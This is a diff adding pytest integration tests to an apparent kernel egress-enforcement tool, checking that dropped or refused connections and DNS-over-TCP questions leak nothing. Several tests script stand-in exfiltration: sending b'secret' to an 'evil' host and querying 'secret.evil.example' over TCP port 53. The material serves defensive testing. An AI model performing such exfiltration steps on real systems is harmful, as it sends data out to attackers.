@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import os
 import socket
+import sys
 import time
+from contextlib import contextmanager
 from typing import TYPE_CHECKING
 
 import pytest
@@ -16,9 +18,12 @@ from exporter.kernel.pins import remove
 from exporter.policy.compile import Compiled, compile_policy
 from exporter.policy.model import Mode
 from tests.kernel.agents import Agent, agent
+from tests.kernel.dns_exchange import NAME, PACED, framed, policy, questions_held_back, taken
+from tests.kernel.held_job import compiled, question
 from tests.kernel.kernel_side import KernelSide, kernel_side
 from tests.kernel.lab import NETWORKS, PORT, V4, V6, Lab, Network, Watch
 from tests.kernel.routes import by_way_of_evil
+from tests.kernel.servers import family_of
 from tests.unit.policy.files import rules
 
 if TYPE_CHECKING:
@@ -104,6 +109,114 @@ def test_nor_is_it_when_somebody_else_removes_the_programs(
         assert remove(kernel.tracer.directory)
         time.sleep(AGAIN_S)
     assert watch.arrivals.packets_to(network.evil) == 0
+
+
+@NETWORKS
+def test_nor_is_what_was_dropped_of_a_connection_that_has_no_room_for_a_mark(
+    lab: Lab, kernel: KernelSide, network: Network
+) -> None:
+    """A process can fill the memory that its socket may take."""
+    with lab.watch() as watch, agent(kernel, lab, audited(), under=under(network)) as job:
+        opened = (f"s = socket.create_connection(('{network.peer}', {PORT}))", "s.sendall(b'hello')")
+        assert job.do(*opened, "assert s.recv(5)", *by_way_of_evil("s", network, network.peer)) == "ok"
+        kernel.change_mode(audited(), Mode.ENFORCE)
+        with lab.without_option_memory():
+            assert job.do("s.sendall(b'secret')") == "ok"
+        detach(kernel)
+    nothing_came_after_hello(watch, network)
+
+
+@contextmanager
+def asked_at(lab: Lab, network: Network) -> Iterator[socket.socket]:
+    """A resolver that waits for a connection."""
+    with lab.peer.call(socket.socket, family_of(network.evil)).result() as listener:
+        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        listener.bind((network.evil, 53))
+        listener.listen()
+        yield listener
+
+
+def begin_to_ask(job: Agent, network: Network) -> None:
+    opened = f"s = socket.create_connection(('{network.evil}', 53))"
+    assert job.do(opened, "s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)") == "ok"
+
+
+def ask(job: Agent, server: socket.socket, piece: bytes) -> None:
+    assert job.do(f"s.sendall({piece!r})") == "ok"
+    assert taken(server, len(piece)) == piece
+
+
+@NETWORKS
+@pytest.mark.parametrize("closing", [(), ("s.close()",)], ids=["open", "closed"])
+def test_nor_is_a_refused_question_that_tcp_has_not_sent_yet(
+    lab: Lab, kernel: KernelSide, network: Network, closing: tuple[str, ...]
+) -> None:
+    """No packet of it was dropped."""
+    before, last = questions_held_back()
+    with asked_at(lab, network) as listener, agent(kernel, lab, refusing_lookups(network)) as job:
+        begin_to_ask(job, network)
+        with listener.accept()[0] as server:
+            for piece in before:
+                ask(job, server, piece)
+            assert job.do(f"s.setsockopt{PACED}") == "ok"
+            ask(job, server, last)
+            assert job.do(f"s.sendall({framed(question('secret.evil.example'))!r})", *closing) == "ok"
+            detach(kernel)
+            assert is_reset(server)
+
+
+@NETWORKS
+def test_nor_is_a_refused_question_of_a_connection_that_has_no_more_room_for_a_mark(
+    lab: Lab, kernel: KernelSide, network: Network
+) -> None:
+    with asked_at(lab, network) as listener, agent(kernel, lab, refusing_lookups(network)) as job:
+        begin_to_ask(job, network)
+        with lab.without_option_memory(), listener.accept()[0] as server:
+            ask(job, server, framed(question(NAME)))
+            assert job.do(f"s.sendall({framed(question('secret.evil.example'))!r})") == "ok"
+            detach(kernel)
+            assert is_reset(server)
+
+
+def test_a_connection_to_a_resolver_that_has_sent_all_goes_on(lab: Lab, kernel: KernelSide) -> None:
+    with asked_at(lab, V4) as listener, agent(kernel, lab, refusing_lookups(V4)) as job:
+        begin_to_ask(job, V4)
+        with listener.accept()[0] as server:
+            ask(job, server, framed(question(NAME)))
+            detach(kernel)
+            ask(job, server, framed(question("any.example")))
+
+
+def refusing_lookups(network: Network) -> Compiled:
+    return compiled(f"dns: deny\n{policy(network, f'{NAME}:{PORT}')}")
+
+
+def is_reset(server: socket.socket) -> bool:
+    """Whether the connection is over, and nothing came by it."""
+    server.setblocking(False)
+    try:
+        return not server.recv(1)
+    except ConnectionResetError:
+        return True
+    except BlockingIOError:
+        return False
+
+
+def test_dropped_packets_of_which_the_connection_is_not_known_are_counted(
+    lab: Lab, kernel: KernelSide
+) -> None:
+    """There is neither room for a mark, nor for the connection's cookie."""
+    cookies = kernel.tracer.maps["without_mark"]
+    cookies.update_all(
+        (number.to_bytes(8, sys.byteorder), bytes(4)) for number in range(1 << 40, (1 << 40) + 16384)
+    )
+    with agent(kernel, lab, audited()) as job:
+        with lab.without_option_memory():
+            keep_back(kernel, job, V4)
+        kernel.tracer.detach()
+        assert kernel.tracer.left.packets > 0
+        assert "there was no room to note the connection" in next(kernel.tracer.left.lines())
+        assert job.do(RESET, "s.close()") == "ok", "else it would be sent beside other tests"
 
 
 def test_the_connections_of_others_go_on(lab: Lab, kernel: KernelSide) -> None:
